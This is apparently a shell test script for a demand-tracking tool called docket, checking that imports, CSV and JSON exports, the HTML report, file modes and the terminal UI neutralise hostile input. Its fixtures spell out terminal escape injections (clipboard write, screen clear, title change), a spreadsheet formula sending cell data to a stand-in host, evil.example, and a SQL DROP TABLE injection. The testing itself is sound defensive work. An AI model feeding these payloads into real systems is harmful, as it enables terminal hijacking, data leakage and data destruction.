#!/bin/sh
# What docs/SECURITY.md promises, end to end:
#  - escape sequences (OSC 52 clipboard writes, clear-screen, window titles, C1 CSI) coming in
#    through an import are refused with the record named and shown neutralised; what an import
#    does accept that a terminal could misread (a note's line breaks and tabs) and what was written
#    behind docket's back are shown neutralised by every table the command line prints and by the
#    terminal UI (tmux: nothing reaches the clipboard or the title, the screen is not cleared);
#  - CSV exports escape cells a spreadsheet would run as formulas; the HTML report escapes text;
#  - every file docket creates (database, WAL, SHM, backup, rejects, report, the letter a person
#    edits) is 0600 even under umask 000, and a database others may read gets a warning.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/tui.sh"

esc=$(printf '\033')
osc52=$(printf '\033]52;c;ZXZpbA==\007')
clear=$(printf '\033[2J\033[H')
title=$(printf '\033]0;pwned\007')
csi=$(printf '\302\233')
# No raw escape, BEL or C1 CSI in what the last command printed.
raw_free() {
	! grep -q "$esc" "$OUT" "$ERR" || fail "$1: an escape character reached the terminal"
	! grep -q "$(printf '\007')" "$OUT" "$ERR" || fail "$1: a BEL reached the terminal"
	! grep -q "$csi" "$OUT" "$ERR" || fail "$1: a C1 CSI reached the terminal"
}

umask 000
setup_db
H=reference,channel,instrument,customer,requester,requester_kind,jurisdiction,categories,agency,note

# --- the import refuses control characters, names the record and shows it neutralised -----------
before=$(db_dump)
{
	echo "$H"
	echo "E-1,email,subpoena,acme-eu,Evil${osc52} Kay,law_enforcement,IE,subscriber,,"
	echo "E-2,email,subpoena,acme-eu,Det. Kay,law_enforcement,IE,subscriber,Bureau${clear},"
	echo "E-3,email,subpoena,acme-eu,Det. Kay${title},law_enforcement,IE,subscriber,,"
	echo "E-4,email,subpoena,acme-eu,Det. Kay,law_enforcement,IE,subscriber,,a note ${csi}2J"
} >"$T/hostile.csv"
expect 2 import "$T/hostile.csv"
raw_free "import"
err_has 'hostile.csv:2: requester: control character U\+001B at byte 5 is not allowed: "Evil\^\[\]52;c;ZXZpbA==\^G Kay"'
err_has 'hostile.csv:3: agency: control character U\+001B'
err_has 'hostile.csv:4: requester: control character U\+001B'
err_has 'hostile.csv:5: note: control character U\+009B'
err_has 'nothing imported: 4 of 4 records are invalid'
[ "$(db_dump)" = "$before" ] || fail "a refused import changed the database"
# With --skip-invalid the rejects file (0600) keeps the records as they came, for a person to fix.
expect 2 import --skip-invalid --rejects "$T/rejects.csv" "$T/hostile.csv"
raw_free "import --skip-invalid"
[ "$(stat -c %a "$T/rejects.csv")" = 600 ] || fail "the rejects file is $(stat -c %a "$T/rejects.csv"), not 0600"
grep -q "$osc52" "$T/rejects.csv" || fail "the rejects file does not keep the record as it came"
[ "$(db_dump)" = "$before" ] || fail "rejected records were written"

# --- what an import accepts, and what came behind docket's back, is shown neutralised -----------
tab=$(printf '\t')
{
	echo "$H"
	printf 'OK-1,email,subpoena,acme-eu,"=HYPERLINK(""http://evil.example/?""&A1,""Open"")",law_enforcement,IE,subscriber,+1 555 0100,"line one\nline two%sTabbed"\n' "$tab"
	printf 'OK-2,email,subpoena,acme-eu,@SUM(1+1),law_enforcement,IE,subscriber,-2+3,"x\047); DROP TABLE demand; --"\n'
	printf 'OK-3,email,subpoena,acme-eu,Target,law_enforcement,IE,subscriber,,\n'
} >"$T/ok.csv"
expect 0 import "$T/ok.csv"
# SQL in a text field is just text.
expect 0 show 2 --format json
[ "$(json 'd["events"][0]["note"]')" = "x'); DROP TABLE demand; --" ] || fail "the note was not kept as written"
# A name written behind docket's back (the sqlite3 shell) with every sequence at once.
sqlite3 "$DOCKET_DB" "UPDATE requester SET name = 'Evil' || char(27) || ']52;c;ZXZpbA==' || char(7) ||
	char(27) || '[2J' || char(27) || ']0;pwned' || char(7) || char(155) || ' Kay'
	WHERE id = (SELECT requester_id FROM demand WHERE reference = 'OK-3')" ||
	fail "sqlite3 could not change the name"
for args in "list" "list --status all --search Evil" "show 3" "due" "requester list" "customer list" \
	"list --format json" "show 3 --format json" "list --format csv" "requester list --format csv" \
	"due --format csv" "due --format json" "outbox list" "report --from 2020-01-01 --to 2030-12-31"; do
	# shellcheck disable=SC2086
	dk $args
	[ "$LAST_RC" -le 1 ] || fail "docket $args exited $LAST_RC"
	raw_free "docket $args"
done
expect 0 show 3
out_has 'Evil\^\[\]52;c;ZXZpbA==\^G\^\[\[2J\^\[\]0;pwned\^G\? Kay'
expect 0 list --status all --format csv
out_has ',Evil\^\[\]52;c;ZXZpbA==\^G\^\[\[2J\^\[\]0;pwned\^G\? Kay,'
expect 0 list --format json
out_has '"Evil\\u001b\]52;c;ZXZpbA==\\u0007\\u001b\[2J\\u001b\]0;pwned\\u0007\\u009b Kay"'
# The note's line break and tab, accepted, are shown and never raw control.
expect 0 show 1
out_has 'line one'

# --- CSV exports escape formula cells -----------------------------------------------------------
# Every cell of every CSV docket writes: none may start with = + - @ tab or CR unescaped.
csv_safe() {
	/usr/bin/python3 - "$OUT" "$1" <<'PY' || fail "$1: a formula cell is not escaped"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
bad = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
if bad:
    print("%s: unescaped: %r" % (sys.argv[2], bad[:5]), file=sys.stderr)
    sys.exit(1)
if len(rows) < 2:
    print("%s: no rows" % sys.argv[2], file=sys.stderr)
    sys.exit(1)
PY
}
expect 0 list --status all --format csv
csv_safe "list --format csv"
out_has "\"'=HYPERLINK\(\"\"http://evil.example/\?\"\"&A1,\"\"Open\"\"\)\""
out_has "'@SUM\(1\+1\)"
expect 0 requester list --format csv
csv_safe "requester list --format csv"
out_has "'=HYPERLINK"
dk due --format csv
[ "$LAST_RC" -le 1 ] || fail "due --format csv exited $LAST_RC"
csv_safe "due --format csv"
expect 0 report --from 2020-01-01 --to 2030-12-31 --format csv
csv_safe "report --format csv"

# --- the HTML report escapes its text ---------------------------------------------------------------
# Country names with & and ' from jurisdictions BA and CI.
for cc in BA CI; do
	expect 0 add --ref "H-$cc" --channel email --instrument subpoena --customer acme-eu --requester R \
		--kind government --jurisdiction "$cc" --category subscriber --received 2026-07-02
done
now=$(date -u +%Y-%m-%dT%H:%M:%SZ)
expect 0 report --quarter 2026Q3 --as-of "$now" --output "$T/q3.html"
grep -q 'Bosnia &amp; Herzegovina' "$T/q3.html" || fail "the HTML report does not escape &"
! grep -q 'Bosnia & Herzegovina' "$T/q3.html" || fail "an & went into the HTML report raw"
grep -q "Côte d&#39;Ivoire" "$T/q3.html" ||
	fail "the HTML report does not escape '"
! grep -qi '<script' "$T/q3.html" || fail "the HTML report holds a script"

# --- files are 0600 even under umask 000; a database others may read is warned about -------------
for f in "$DOCKET_DB" "$DOCKET_DB-wal" "$DOCKET_DB-shm"; do
	[ -e "$f" ] || fail "$f does not exist"
	[ "$(stat -c %a "$f")" = 600 ] || fail "$f is $(stat -c %a "$f"), not 0600"
done
expect 0 backup "$T/copy.db"
[ "$(stat -c %a "$T/copy.db")" = 600 ] || fail "the backup is $(stat -c %a "$T/copy.db"), not 0600"
[ "$(stat -c %a "$T/q3.html")" = 600 ] || fail "the report is $(stat -c %a "$T/q3.html"), not 0600"
# A report that replaces a file keeps the mode its owner gave it.
chmod 644 "$T/q3.html"
expect 0 report --quarter 2026Q3 --as-of "$now" --output "$T/q3.html"
[ "$(stat -c %a "$T/q3.html")" = 644 ] || fail "the replaced report lost its mode"
# The letter a person edits is 0600 too, wherever TMPDIR points.
expect 0 move 1 redirecting
cat >"$T/editor.sh" <<EOF
#!/bin/sh
stat -c %a "\$1" >"$T/edit-mode"
EOF
chmod 700 "$T/editor.sh"
EDITOR=$T/editor.sh expect 0 --actor atty outbox edit 1
[ "$(cat "$T/edit-mode")" = 600 ] || fail "the letter being edited is $(cat "$T/edit-mode"), not 0600"
chmod 644 "$DOCKET_DB"
expect 0 list
err_has "^docket: warning: .*docket.db is readable or writable by others \(mode 644\); run chmod 600 on it"
chmod 600 "$DOCKET_DB"
expect 0 list
err_lacks "warning"

# --- the terminal UI shows it all neutralised, and the terminal obeys none of it ---------------------
tui_start 120x30
# tmux takes an OSC 52 that reaches it into a paste buffer: were one to get through, it would show.
tmux -S "$TUI_SOCK" set-option -g set-clipboard on
tui_wait 'OK-1'
tui_keys /
tui_wait 'Search:'
tui_type 'OK-3'
tui_wait '1 found'
tui_keys Enter
tui_wait 'demand 3 . OK-3'
tui_wait 'Evil\^\[\]52;c;ZXZpbA==\^G\^\[\[2J\^\[\]0;pwned\^G\? Kay'
[ "$(tmux -S "$TUI_SOCK" display -p -t tui '#{pane_title}')" != pwned ] || tui_fail "the title was set"
[ -z "$(tmux -S "$TUI_SOCK" list-buffers 2>/dev/null)" ] || tui_fail "something reached the clipboard (OSC 52)"
tui_keys Escape
tui_wait 'Search: OK-3'
tui_keys Escape
tui_wait 'Queue: open'
tui_keys q
tui_exited 0
expect 0 verify
exit 0
